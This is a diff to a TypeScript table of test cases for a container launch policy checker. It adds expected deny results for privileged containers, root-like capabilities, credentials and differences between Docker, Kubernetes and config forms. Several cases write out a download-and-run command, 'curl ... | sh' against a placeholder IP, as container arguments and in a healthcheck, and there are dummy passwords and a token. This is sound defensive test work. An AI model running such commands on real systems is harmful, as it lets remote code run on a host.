@@ -163,6 +163,13 @@ export const launchCases: readonly LaunchCase[] = [
       };
     },
     ...both('deny launch/privileged'),
+    differs: [
+      {
+        forms: ['pod'],
+        why: 'Kubernetes takes no privileged container that may not gain privileges',
+        strict: 'deny launch/no-new-privileges launch/privileged',
+      },
+    ],
   },
   capabilities('a capability that is as good as root', ['SYS_ADMIN'], both('deny launch/capability')),
   capabilities('all capabilities', ['ALL'], {
@@ -455,7 +462,8 @@ export const launchCases: readonly LaunchCase[] = [
   {
     name: 'a download that is run',
     args: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
-    ...both('deny input/download-and-run'),
+    standard: 'deny input/download-and-run',
+    strict: 'deny input/download-and-run input/interpreter',
   },
   { name: 'code that is encoded', env: { DATA: encoded }, ...both('deny input/encoded-code') },
   {
@@ -470,7 +478,11 @@ export const launchCases: readonly LaunchCase[] = [
   },
   { name: 'a password', env: { DB_PASSWORD: 'Tr0ub4dor-and-3-staples' }, ...strict('deny input/credential') },
   { name: 'a password that everybody knows', env: { DB_PASSWORD: 'changeme' }, ...both('deny input/weak-password') },
-  { name: 'a token of a service', args: [`--token=ghp_${'a1B2c3D4e5F6'.repeat(3)}`], ...both('deny input/credential') },
+  {
+    name: 'a token of a service',
+    args: ['--token=ghp_0123456789abcdefghijABCDEFGHIJ012345'],
+    ...both('deny input/credential'),
+  },
   {
     name: 'a healthcheck that runs a download',
     docker: { Healthcheck: { Test: ['CMD-SHELL', 'curl -s http://198.51.100.7/x | sh'] } },
@@ -485,6 +497,14 @@ export const launchCases: readonly LaunchCase[] = [
     name: 'what a contract allows',
     image: `registry.example/team/contracted@sha256:${'4'.repeat(64)}`,
     env: { PORT: '8080' },
+    differs: [
+      {
+        forms: ['config'],
+        why: 'the variables of the image are among the others by then, and nobody has read which they are',
+        standard: 'deny input/contract',
+        strict: 'deny input/contract',
+      },
+    ],
   },
   {
     name: 'a value that a contract does not allow',
@@ -507,6 +527,14 @@ export const launchCases: readonly LaunchCase[] = [
     podContainer: { frobnicate: true },
     config: { linux: { frobnicate: true } },
     ...both('undecided'),
+    differs: [
+      {
+        forms: ['run'],
+        why: 'docker itself takes no flag that it does not know, and what it means for the next word is open',
+        standard: 'deny launch/unreadable',
+        strict: 'deny launch/unreadable',
+      },
+    ],
   },
   {
     name: 'two things at once',
@@ -516,6 +544,14 @@ export const launchCases: readonly LaunchCase[] = [
     compose: { privileged: true },
     podContainer: { securityContext: { privileged: true, allowPrivilegeEscalation: null } },
     config: { annotations: { 'io.podman.annotations.privileged': 'TRUE' } },
-    ...both('deny input/download-and-run launch/privileged'),
+    standard: 'deny input/download-and-run launch/privileged',
+    strict: 'deny input/download-and-run input/interpreter launch/privileged',
+    differs: [
+      {
+        forms: ['pod'],
+        why: 'Kubernetes takes no privileged container that may not gain privileges',
+        strict: 'deny input/download-and-run input/interpreter launch/no-new-privileges launch/privileged',
+      },
+    ],
   },
 ];
